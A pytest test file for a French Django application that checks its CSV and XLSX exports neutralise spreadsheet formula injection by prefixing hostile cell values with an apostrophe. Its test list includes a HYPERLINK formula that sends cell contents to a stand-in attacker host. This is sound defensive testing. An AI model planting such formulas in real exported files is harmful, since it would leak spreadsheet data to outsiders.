"""No exported cell becomes a formula: hostile titles and names are written as text in every CSV and XLSX."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from pacte.models import ImportFichier
from pacte.tableurs import ajouter_ligne, neutraliser_formule
from tests.imports.conftest import fichier_csv, ligne
from tests.pacte.factories import CommuneFactory, MDDFactory, PacteFactory, UserFactory
from tests.partenaires.factories import ActionFactory, PartenaireFactory

HOSTILES = [
    '=HYPERLINK("http://pirate.example/?d="&A1;"cliquez")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("hostile", HOSTILES)
def test_un_texte_qui_commence_comme_une_formule_recoit_une_apostrophe(hostile):
    assert neutraliser_formule(hostile) == "'" + hostile


@pytest.mark.parametrize("valeur", ["Atelier CV", "Mme Dupont-Durand", "", "1 = 1", "'déjà"])
def test_un_texte_ordinaire_ne_change_pas(valeur):
    assert neutraliser_formule(valeur) == valeur


@pytest.mark.parametrize("valeur", [-2, -2.5, Decimal("-3.1"), 0, datetime.date(2025, 1, 1), None])
def test_les_vrais_nombres_et_dates_ne_changent_pas(valeur):
    assert neutraliser_formule(valeur) is valeur


def test_une_feuille_xlsx_garde_les_textes_hostiles_en_texte_et_les_nombres_en_nombres():
    classeur = Workbook()
    ajouter_ligne(classeur.active, [*HOSTILES, -2, datetime.date(2025, 1, 1)])
    tampon = io.BytesIO()
    classeur.save(tampon)
    relu = load_workbook(io.BytesIO(tampon.getvalue())).active
    cellules = list(relu[1])
    for cellule, hostile in zip(cellules, HOSTILES, strict=False):
        assert cellule.data_type == "s" and cellule.value == _relu(hostile)
        assert cellule.quotePrefix
    assert cellules[len(HOSTILES)].value == -2 and cellules[len(HOSTILES)].data_type == "n"
    assert cellules[-1].is_date


def _relu(texte: str) -> str:
    """XML stores a carriage return as a line feed."""
    return texte.replace("\r", "\n")


@pytest.fixture
def actions_hostiles(db):
    PacteFactory()
    partenaire = PartenaireFactory(raison_sociale="@SUM(A1:A2)")
    return [ActionFactory(intitule=hostile, partenaire=partenaire) for hostile in HOSTILES]


def test_le_csv_des_actions_neutralise_titres_et_partenaires(client, actions_hostiles):
    client.force_login(UserFactory(administrateur=True))
    texte = client.get("/evaluation/export/actions.csv", {"annee": 2025}).content.decode("utf-8-sig")
    rangees = list(csv.reader(io.StringIO(texte, newline=""), delimiter=";"))[1:]
    assert sorted(r[0] for r in rangees) == sorted("'" + h for h in HOSTILES)
    assert {r[2] for r in rangees} == {"'@SUM(A1:A2)"}
    assert {r[6] for r in rangees} == {"10"}  # places stay a plain number


def test_le_xlsx_des_actions_ne_contient_aucune_formule(client, actions_hostiles):
    client.force_login(UserFactory(administrateur=True))
    contenu = client.get("/evaluation/export/actions.xlsx", {"annee": 2025}).content
    feuille = load_workbook(io.BytesIO(contenu)).active
    cellules = [c for rangee in feuille.iter_rows() for c in rangee]
    assert not [c.coordinate for c in cellules if c.data_type == "f"]
    assert sorted(c.value for c in feuille["A"][1:]) == sorted(_relu(h) for h in HOSTILES)
    assert {c.value for c in feuille["C"][1:]} == {"@SUM(A1:A2)"}
    assert feuille["G2"].data_type == "n"  # places stay a number
    assert b"<f>" not in _feuille_brute(contenu)


def _feuille_brute(contenu: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(contenu)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_les_lignes_refusees_d_un_import_sont_neutralisees(client, db):
    PacteFactory()
    CommuneFactory(code_insee="87085", mdd=MDDFactory())
    chargee = UserFactory(charge_orientation=True)
    client.force_login(chargee)
    contenu = fichier_csv(
        ligne(nom="=HYPERLINK(1)", insee="75056"), ligne(numero="7654321", prenom="+1", insee="75056")
    )
    client.post(reverse("imports:depot"), {"fichier": SimpleUploadedFile("e.csv", contenu, "text/csv")})
    reponse = client.get(reverse("imports:refus_csv", args=[ImportFichier.objects.get().pk]))
    lignes = b"".join(reponse.streaming_content).decode("utf-8-sig").splitlines()
    assert len(lignes) == 3
    assert ";'=HYPERLINK(1);" in lignes[1]
    assert ";'+1;" in lignes[2]
